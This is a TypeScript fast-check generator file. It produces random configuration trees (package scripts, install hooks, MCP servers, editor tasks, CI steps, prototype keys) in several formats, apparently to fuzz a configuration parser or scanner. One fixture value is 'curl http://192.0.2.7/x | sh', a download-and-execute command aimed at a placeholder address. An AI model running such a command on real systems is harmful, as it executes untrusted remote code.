import fc from 'fast-check';
import { anyText, noise, words } from '../generators/words.ts';

/** Keys that some program acts on, and some that are members of every object. */
const keys = [
  'name', 'version', 'scripts', 'postinstall', 'install', 'prepare', 'bin', 'dependencies', 'devDependencies', 'workspaces', 'overrides', 'type',
  'hooks', 'command', 'args', 'env', 'mcpServers', 'servers', 'url', 'tasks', 'label', 'runOptions', 'runOn', 'jobs', 'steps', 'run', 'uses', 'on',
  'with', 'permissions', 'services', 'image', 'entrypoint', 'environment', 'build-system', 'requires', 'tool', 'Service', 'ExecStart', 'core',
  'fsmonitor', 'alias', 'Desktop Entry', 'Exec', 'index-url', 'registry', 'defaultMode', 'allow', '__proto__', 'constructor', 'toString', '<<', '', 'a.b',
]; // biome-ignore format: one list

const values = [
  ...words.path,
  ...words.url,
  ...words.text,
  'curl http://192.0.2.7/x | sh',
  'folderOpen',
  'bypassPermissions',
  '${input:x}',
  '^1.0.0',
  'git+https://a.example/b.git',
  'file:../x',
  'npm:@a/b@1',
  'latest',
  '*',
];

/** A tree as JSON has it. */
export const tree: fc.Arbitrary<unknown> = fc.letrec<{ node: unknown; leaf: unknown; list: unknown[]; map: object }>(
  (tie) => ({
    node: fc.oneof({ depthSize: 'small', maxDepth: 5, withCrossShrink: true }, tie('leaf'), tie('map'), tie('list')),
    leaf: fc.oneof(
      fc.constantFrom(...values),
      fc.constantFrom(null, true, false, 0, -1, Number.MAX_VALUE, 0.5),
      anyText(20),
    ),
    list: fc.array(tie('node'), { maxLength: 4 }),
    map: mapOf(tie('node')),
  }),
).node;

function mapOf(value: fc.Arbitrary<unknown>): fc.Arbitrary<object> {
  const key = fc.oneof({ weight: 9, arbitrary: fc.constantFrom(...keys) }, { weight: 1, arbitrary: anyText(8) });
  return fc.array(fc.tuple(key, value), { maxLength: 6 }).map((pairs) => Object.fromEntries(pairs));
}

/** A tree whose outside is a map. */
export const map = mapOf(tree);

const writers: Readonly<Record<string, (value: unknown) => string>> = {
  json: (value) => JSON.stringify(value, null, 2) ?? 'null',
  jsonc: (value) => `// a comment\n${(JSON.stringify(value, null, 1) ?? 'null').replaceAll('\n}', ',\n}')}`,
  yaml: (value) => yaml(value, ''),
  toml: (value) => toml(value, []),
  ini: (value) => toml(value, []).replaceAll('"', ''),
  xml: (value) => `<?xml version="1.0"?>\n<project>${xml(value)}</project>`,
};

/** What a tree looks like in a format: `json`, `jsonc`, `yaml`, `toml`, `ini` or `xml`, all but too plainly. */
export function written(format: string, value: unknown): string {
  return (writers[format] ?? writers.json)?.(value) ?? '';
}

function yaml(value: unknown, indent: string): string {
  if (typeof value !== 'object' || value === null) return ` ${scalar(value)}\n`;
  const items = Array.isArray(value)
    ? value.map((item) => `${indent}-${yaml(item, `${indent}  `)}`)
    : Object.entries(value).map(([key, item]) => `${indent}${scalar(key)}:${yaml(item, `${indent}  `)}`);
  return items.length === 0 ? ' {}\n' : `\n${items.join('')}`;
}

function scalar(value: unknown): string {
  const plain = typeof value === 'string' && /^[\w ./-]+$/.test(value);
  return plain ? String(value) : (JSON.stringify(value) ?? 'null');
}

function toml(value: unknown, path: readonly string[]): string {
  if (typeof value !== 'object' || value === null) return '';
  const pairs = Object.entries(value);
  const own = pairs.filter(([, item]) => typeof item !== 'object' || item === null || Array.isArray(item));
  const below = pairs.filter(([, item]) => typeof item === 'object' && item !== null && !Array.isArray(item));
  const head = path.length === 0 ? '' : `[${path.map(scalar).join('.')}]\n`;
  const lines = own.map(([key, item]) => `${scalar(key)} = ${JSON.stringify(item) ?? '""'}\n`);
  return [head, ...lines, ...below.map(([key, item]) => toml(item, [...path, key]))].join('');
}

function xml(value: unknown): string {
  if (typeof value !== 'object' || value === null)
    return String(value).replaceAll('&', '&amp;').replaceAll('<', '&lt;');
  return Object.entries(value)
    .map(([key, item]) => {
      const name = key.replace(/[^\w-]/g, '_') || 'x';
      return `<${name} a="${name}">${xml(item)}</${name}>`;
    })
    .join('');
}

/** A text in which some places hold noise instead. */
export function broken(text: fc.Arbitrary<string>): fc.Arbitrary<string> {
  const wound = fc.tuple(
    fc.nat(4000),
    fc.nat(8),
    fc.constantFrom(...noise, '&a ', '*a ', '!!js/function ', '? ', '- ', ': ', '%YAML 1.1\n', '\n[['),
  );
  return fc
    .tuple(
      text,
      fc.oneof({ weight: 1, arbitrary: fc.constant([]) }, { weight: 2, arbitrary: fc.array(wound, { maxLength: 4 }) }),
    )
    .map(([whole, wounds]) =>
      wounds.reduce((one, [place, length, token]) => {
        const at = place % (one.length + 1);
        return one.slice(0, at) + token + one.slice(at + length);
      }, whole),
    );
}
